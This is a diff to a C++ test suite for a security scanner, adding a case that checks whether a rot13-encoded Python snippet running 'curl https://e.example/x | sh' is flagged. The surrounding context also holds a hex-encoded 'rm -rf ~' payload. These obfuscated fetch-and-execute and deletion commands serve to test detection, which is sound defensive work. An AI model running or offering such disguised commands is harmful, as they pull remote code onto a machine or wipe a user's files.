@@ -317,6 +317,11 @@ TEST_CASE("security: decoded payloads are judged by what they decode to", "[rule
   INFO(describe(f));
   REQUIRE(!f.empty());
   CHECK(mentions(f, "evil.example"));
+  // rot13 of "curl https://e.example/x | sh", through a variable
+  auto r = vet("security/remote-code",
+               "import os, codecs\nc = codecs.decode('phey uggcf://r.rknzcyr/k | fu', 'rot13')\nos.system(c)");
+  INFO(describe(r));
+  CHECK(mentions(r, "e.example"));
   // bytes.fromhex of "rm -rf ~"
   auto g = vet("security/escape", "import os\nos.system(bytes.fromhex('726d202d7266207e').decode())");
   INFO(describe(g));
